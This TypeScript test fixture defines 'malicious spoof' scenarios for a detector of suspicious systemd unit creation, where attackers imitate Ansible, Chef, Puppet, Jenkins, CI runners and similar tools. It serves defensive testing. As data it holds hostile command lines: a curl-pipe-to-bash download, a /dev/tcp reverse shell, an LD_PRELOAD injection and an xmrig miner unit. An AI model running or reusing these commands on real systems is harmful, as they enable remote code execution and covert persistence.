import { onlyFull, ran, scenarios, wrote } from './scenario.ts';

const ENABLE = 'systemctl enable --now updater.service';
const ANSIBLE = '.ansible/tmp/ansible-tmp-1763911001.44-20817-1143/AnsiballZ_systemd.py';
const UNIT = '/etc/systemd/system/updater.service';

const forged = scenarios('malicious', 'spoof', [
  [
    'Ansible in /tmp as the web server',
    ran('www-data', ENABLE, 'python3', `/usr/bin/python3 /tmp/${ANSIBLE}`, 'apache2'),
  ],
  ['Ansible in /tmp as root', ran('root', ENABLE, 'python3', `/usr/bin/python3 /tmp/${ANSIBLE}`, 'sh')],
  ['Ansible in /var/tmp', ran('root', ENABLE, 'python3', `/usr/bin/python3 /var/tmp/${ANSIBLE}`, 'sh')],
  [
    'Ansible in the web root',
    ran('www-data', ENABLE, 'python3', `/usr/bin/python3 /var/www/${ANSIBLE}`, 'sh'),
  ],
  [
    'Ansible by a path with dots',
    ran(
      'root',
      ENABLE,
      'python3',
      `/usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1-2-3/../../../../tmp/AnsiballZ_systemd.py`,
      'sh',
    ),
  ],
  [
    'Ansible by a second root',
    ran('root', ENABLE, 'python3', `/usr/bin/python3 /proc/self/root/tmp/${ANSIBLE}`, 'sh'),
  ],
  [
    "Ansible below a web server's account",
    ran('tomcat', ENABLE, 'python3', `/usr/bin/python3 /home/tomcat/${ANSIBLE}`, 'java'),
  ],
  [
    'a comment names GitLab Runner',
    ran(
      'deploy',
      'systemctl --user enable updater',
      'bash',
      'bash -c systemctl --user enable updater # gitlab-runner',
      'bash',
    ),
  ],
  [
    'a comment names Ansible',
    ran('root', ENABLE, 'bash', `bash -c ${ENABLE} # ansible /root/${ANSIBLE}`, 'python3'),
  ],
  [
    'a command that does nothing names Chef',
    ran('root', ENABLE, 'sh', `sh -c : /opt/chef/embedded/bin/ruby chef-client; ${ENABLE}`, 'perl'),
  ],
  [
    'a comment names BuildKit',
    wrote(
      'www-data',
      '/run/systemd/system/agent.service',
      'cp',
      'cp /dev/shm/agent.service /run/systemd/system/agent.service # buildkitd',
      'apache2',
    ),
  ],
  ['Jenkins below Tomcat', ran('tomcat', ENABLE, 'sh', 'sh -xe /tmp/jenkins8213377121.sh', 'java')],
  ['Jenkins with another name', ran('root', ENABLE, 'sh', 'sh -xe /tmp/jenkins-update.sh', 'java')],
  ['Jenkins below PHP', ran('root', ENABLE, 'sh', 'sh -xe /tmp/jenkins8213377121.sh', 'php-fpm')],
  [
    'an rpm scriptlet of the web server',
    ran('apache', ENABLE, 'sh', 'sh /var/tmp/rpm-tmp.AbC123 1', 'httpd'),
  ],
  [
    'runc with a payload in shared memory',
    wrote('root', UNIT, 'cp', `cp /dev/shm/u.service ${UNIT}`, 'runc'),
  ],
  [
    'runc with a unit that poses as the kernel',
    wrote(
      'root',
      '/etc/systemd/system/kworkerds.service',
      'cp',
      'cp /tmp/u.service /etc/systemd/system/kworkerds.service',
      'runc',
    ),
  ],
  [
    'Runner.Worker with a download',
    ran(
      'runner',
      'systemctl --user enable updater',
      'bash',
      'bash -c curl -s http://203.0.113.9/x | bash',
      'Runner.Worker',
    ),
  ],
  [
    'Buildkite with a reverse shell',
    ran(
      'buildkite-agent',
      'systemctl --user enable updater',
      'bash',
      'bash -e -c bash -i >& /dev/tcp/198.51.100.7/443 0>&1',
      'buildkite-agent',
    ),
  ],
  [
    'GitLab Runner started from /tmp',
    ran('gitlab-runner', 'systemctl --user enable updater', 'bash', '/tmp/bash --login', 'gitlab-runner'),
  ],
  [
    "Chef's ruby in a hidden place",
    ran('root', ENABLE, 'ruby', '/opt/.chef/embedded/bin/ruby /usr/bin/chef-client', 'systemd'),
  ],
  [
    "Puppet's ruby with code",
    ran(
      'root',
      ENABLE,
      'ruby',
      '/opt/puppetlabs/puppet/bin/ruby -e system("x") /opt/puppetlabs/puppet/bin/puppet agent',
      'systemd',
    ),
  ],
  [
    "Salt's python with code",
    ran(
      'root',
      ENABLE,
      'python3.10',
      '/opt/saltstack/salt/bin/python3.10 -c import os /usr/bin/salt-minion',
      'systemd',
    ),
  ],
  [
    'a unit of the name of a tool',
    ran(
      'www-data',
      'systemctl enable AnsiballZ_systemd.service',
      'sh',
      'sh -c systemctl enable AnsiballZ_systemd.service',
      'php-fpm',
    ),
  ],
  ['variables of Packer', ran('www-data', ENABLE, 'sh', `sh -c PACKER_BUILD_NAME=x ${ENABLE}`, 'nginx')],
  [
    'an SSH session of the web server',
    ran('www-data', 'systemctl --user enable updater', 'bash', '-bash', 'sshd-session'),
  ],
  [
    'an SSH session with a preload',
    ran(
      'alice',
      'systemctl --user enable updater',
      'bash',
      'LD_PRELOAD=/home/alice/x.so -bash',
      'sshd-session',
    ),
  ],
  [
    "Ansible's module and a miner",
    ran('root', 'systemctl enable xmrig', 'python3', `/usr/bin/python3 /root/${ANSIBLE}`, 'sh'),
  ],
  [
    'two rows, one of them a tool',
    ran('root', 'systemctl daemon-reload', 'python3', `/usr/bin/python3 /root/${ANSIBLE}`, 'sh'),
    wrote('root', UNIT, 'cp', `cp /tmp/u.service ${UNIT}`, 'bash'),
  ],
]);

const seenByPath = scenarios('malicious', 'spoof', [
  [
    'a staging name without its tool',
    wrote(
      'root',
      '/etc/systemd/system/.ansible_tmpq8w2xk1japp.service',
      'python3',
      'python3 /opt/u/run.py',
      'sh',
    ),
  ],
]).map(onlyFull);

/** Attacks that wear a tool's marks. */
export const maliciousSpoofScenarios = [...forged, ...seenByPath];
